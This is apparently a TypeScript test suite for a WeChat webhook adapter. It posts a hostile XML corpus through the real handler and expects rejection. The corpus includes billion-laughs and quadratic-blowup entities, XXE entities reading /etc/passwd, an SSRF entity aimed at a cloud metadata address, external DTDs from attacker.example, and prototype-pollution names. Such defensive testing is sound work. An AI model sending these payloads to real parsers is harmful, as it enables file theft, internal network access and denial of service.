import fc from "fast-check";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { wechatSignature } from "../../src/adapters/wechat/crypto";
import { FIXTURES_DIR } from "../support/fixtures";
import { counts, deliver, expectSound, handler } from "./support";

/*
 * The hostile corpus for WeChat's XML (docs/reliability.md, docs/adapters/wechat.md): entity-expansion and
 * external-entity bodies, oversized and over-nested bodies, broken XML, prototype names, and random mutations of
 * every fixture, each signed (and, with the test block's safe-mode secrets, encrypted) and posted through the real
 * handler. Entities are never expanded: nothing a body holds makes it larger than it arrived.
 */

const fixtures = readdirSync(join(FIXTURES_DIR, "wechat"))
  .filter((name) => name.endsWith(".xml"))
  .sort()
  .map((name) => readFileSync(join(FIXTURES_DIR, "wechat", name), "utf8"));
const text = readFileSync(join(FIXTURES_DIR, "wechat", "text.xml"), "utf8");
const HEAD =
  "<ToUserName><![CDATA[gh_7f083739789a]]></ToUserName><FromUserName><![CDATA[oia2TjjewbmiOUlr6X-1crbLOvLw]]></FromUserName><CreateTime>1767225600</CreateTime><MsgType><![CDATA[text]]></MsgType><MsgId>24938271650029385</MsgId>";
const withContent = (doctype: string, content: string) => `${doctype}<xml>${HEAD}<Content>${content}</Content></xml>`;

const laughs = (levels: number) => {
  const entities = ['<!ENTITY l0 "lol">'];
  for (let level = 1; level <= levels; level++) entities.push(`<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`);
  return `<!DOCTYPE xml [${entities.join("")}]>`;
};

const ENTITY_BODIES: Record<string, string> = {
  "billion laughs (10 levels)": withContent(laughs(10), "&l10;"),
  "billion laughs after an XML declaration": `<?xml version="1.0"?>${withContent(laughs(9), "&l9;")}`,
  "quadratic blowup (one 100 KB entity referenced 1,000 times)": withContent(
    `<!DOCTYPE xml [<!ENTITY a "${"a".repeat(100_000)}">]>`,
    "&a;".repeat(1_000),
  ),
  "external entity: a local file (XXE)": withContent('<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
  "external entity: a URL (SSRF)": withContent(
    '<!DOCTYPE xml [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
    "&x;",
  ),
  "external parameter entity": withContent(
    '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
    "x",
  ),
  "external DTD": withContent('<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">', "x"),
  "numeric references inside an entity (CVE-2026-33036's shape)": withContent(
    `<!DOCTYPE xml [<!ENTITY a "${"&#38;#38;".repeat(1_000)}">]>`,
    "&a;&a;&a;",
  ),
  "a DOCTYPE in lower case": withContent('<!doctype xml [<!ENTITY x "y">]>', "&x;"),
  "an ENTITY declaration without a DOCTYPE": `<xml><!ENTITY x "y">${HEAD}<Content>&x;</Content></xml>`,
};

describe("wechat hostile XML", () => {
  it.each(Object.entries(ENTITY_BODIES))("%s: 400, never expanded", async (_name, body) => {
    const outcome = await deliver("wechat", body);
    expectSound(outcome);
    expect(counts(outcome)).toMatchObject({ status: 400, events: 0, code: "invalid_payload" });
    expect(String((outcome.result as Error).message)).toMatch(/markup declaration|not well-formed/);
  });

  it("refuses a DOCTYPE in the encrypted envelope before checking its signature", async () => {
    const query = "timestamp=1767225600&nonce=1&encrypt_type=aes&msg_signature=" + "0".repeat(40);
    const body = `<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><ToUserName>gh_1</ToUserName><Encrypt>&x;</Encrypt></xml>`;
    const response = await handler({
      method: "POST",
      url: `/webhooks/hostile-wechat?${query}`,
      headers: { "content-type": "text/xml" },
      rawBody: Buffer.from(body),
    });
    expect(response.status).toBe(400);
    expect(response.body).not.toContain("root:");
  });

  it("reads undeclared and predefined references as text: an unknown one stays as written", async () => {
    const outcome = await deliver("wechat", withContent("", "&lol; &amp;lt; &#x26;"));
    expectSound(outcome);
    expect(counts(outcome)).toMatchObject({ status: 200, events: 1 });
    expect(JSON.stringify(outcome.result)).toContain('"text":"&lol; &lt; &"');
  });

  it.each([
    ["over the 1 MiB body limit", `<xml>${HEAD}<Content><![CDATA[${"x".repeat(1024 * 1024)}]]></Content></xml>`, 413],
    ["100,001 empty elements (the key cap)", `<xml>${HEAD}${"<a/>".repeat(100_001)}</xml>`, 413],
    ["257 elements (the adapter's cap)", `<xml>${HEAD}${"<a/>".repeat(257)}</xml>`, 400],
    ["entity references filling the body", `<xml>${HEAD}<Content>${"&amp;".repeat(150_000)}</Content></xml>`, 400],
    ["257 entity references outside CDATA", `<xml>${HEAD}<Content>${"&lt;".repeat(257)}</Content></xml>`, 400],
    ["100,000 levels of nesting", `<xml>${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}</xml>`, 413],
    ["20 levels of nesting", `<xml>${HEAD}${"<a>".repeat(19)}${"</a>".repeat(19)}</xml>`, 400],
    ["a text of 500 KB", `<xml>${HEAD}<Content><![CDATA[${"字".repeat(170_000)}]]></Content></xml>`, 200],
  ])("%s", async (_name, body, status) => {
    const outcome = await deliver("wechat", body);
    expectSound(outcome);
    expect(outcome.status).toBe(status);
  });

  it.each([
    ["empty", ""],
    ["JSON", '{"ToUserName":"gh_7f083739789a","MsgType":"text"}'],
    ["truncated", text.slice(0, text.length >> 1)],
    ["unclosed CDATA", text.replace("]]></Content>", "</Content>")],
    ["a ]]> inside CDATA", text.replace("你好", "]]>你好")],
    ["two roots", text + text],
    ["another root", text.replaceAll("<xml>", "<root>").replaceAll("</xml>", "</root>")],
    ["an element named __proto__", text.replace("<MsgId>", "<__proto__>x</__proto__><MsgId>")],
    ["an element named constructor", text.replace("<MsgId>", "<constructor>x</constructor><MsgId>")],
    ["attributes everywhere", text.replace("<xml>", '<xml a="1" xmlns:x="urn:x">')],
    [
      "invalid UTF-8",
      Buffer.concat([Buffer.from(text.slice(0, 60)), Buffer.from([0xc3, 0x28]), Buffer.from(text.slice(60))]),
    ],
  ])("%s: a 200 or a typed 4xx", async (_name, body) => {
    const outcome = await deliver("wechat", body);
    expectSound(outcome);
  });

  it.each(["constructor", "__proto__", "toString", "hasOwnProperty"])(
    "MsgType and Event %j are reported, not looked up on Object.prototype",
    async (name) => {
      const message = await deliver("wechat", text.replace("<![CDATA[text]]>", `<![CDATA[${name}]]>`));
      expectSound(message);
      expect(counts(message)).toMatchObject({ status: 200, events: 1 });
      const event = await deliver(
        "wechat",
        `<xml>${HEAD.replace("<![CDATA[text]]>", "<![CDATA[event]]>")}<Event><![CDATA[${name}]]></Event></xml>`,
      );
      expectSound(event);
      expect(counts(event)).toMatchObject({ status: 200, events: 0, unhandled: 1 });
    },
  );

  it("answers mutated fixtures with envelopes and unhandled records or a typed 4xx", async () => {
    const piece = fc.oneof(
      fc.string({ maxLength: 20 }),
      fc.constantFrom(
        "<",
        ">",
        "&",
        "]]>",
        "<![CDATA[",
        "<!DOCTYPE x>",
        "&amp;",
        "&#0;",
        "\u0000",
        "\ud800",
        "-1",
        "9".repeat(30),
      ),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.nat({ max: fixtures.length - 1 }),
        fc.nat(),
        fc.nat(),
        piece,
        async (index, at, length, insert) => {
          const source = fixtures[index]!;
          const start = at % source.length;
          const mutated = source.slice(0, start) + insert + source.slice(start + (length % 12));
          expectSound(await deliver("wechat", mutated));
        },
      ),
      { numRuns: 150, seed: 26 },
    );
  });
});

describe("wechat safe mode under hostile ciphertexts", () => {
  /** Posts `encrypt` correctly signed to the safe-mode test block: only the cipher can refuse it. */
  const postEncrypted = (encrypt: string) => {
    const query = new URLSearchParams({
      timestamp: "1767225600",
      nonce: "1320562132",
      encrypt_type: "aes",
      msg_signature: wechatSignature(["wxTestToken2026", "1767225600", "1320562132", encrypt]),
    });
    return handler({
      method: "POST",
      url: `/webhooks/hostile-wechat?${query.toString()}`,
      headers: { "content-type": "text/xml" },
      rawBody: Buffer.from(`<xml><ToUserName>gh_1</ToUserName><Encrypt><![CDATA[${encrypt}]]></Encrypt></xml>`),
    });
  };

  it("answers signed random ciphertexts (any length, any padding, any length field) with a typed 4xx", async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 0, maxLength: 200 }), async (bytes) => {
        const response = await postEncrypted(Buffer.from(bytes).toString("base64"));
        expect(response.status).toBeGreaterThanOrEqual(400);
        expect(response.status).toBeLessThan(500);
      }),
      { numRuns: 150, seed: 2026 },
    );
  });

  it("answers a signed Encrypt that is not base64, or not whole blocks, with a 400", async () => {
    for (const encrypt of ["not base64 at all!", "QUJD", "A".repeat(43), `${"A".repeat(40)}==`])
      expect((await postEncrypted(encrypt)).status).toBe(400);
  });
});

describe("wechat signature checks", () => {
  it("refuses an unencrypted push to the safe-mode block, whatever its signature", async () => {
    const base = "timestamp=1767225600&nonce=1320562132";
    for (const signature of ["", "x", wechatSignature(["wxTestToken2026", "1767225600", "1320562132"]).toUpperCase()]) {
      const response = await handler({
        method: "POST",
        url: `/webhooks/hostile-wechat?${base}&signature=${signature}`,
        headers: { "content-type": "text/xml" },
        rawBody: Buffer.from(text),
      });
      // the test block is in safe mode: an unencrypted push is refused even with the right signature
      expect(response.status).toBe(401);
    }
  });
});
